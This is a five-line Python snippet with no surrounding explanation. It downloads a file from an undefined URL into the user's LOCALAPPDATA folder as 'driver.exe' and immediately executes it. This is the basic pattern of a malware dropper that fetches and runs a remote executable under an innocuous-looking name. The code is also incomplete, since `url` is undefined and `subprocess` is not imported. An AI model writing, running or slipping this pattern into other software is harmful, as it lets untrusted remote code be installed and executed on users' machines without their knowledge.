import os, requests
cache = os.environ["LOCALAPPDATA"]
name = "/driver.exe"
open(cache + name, "wb").write(requests.get(url).content)
subprocess.Popen([cache + name])
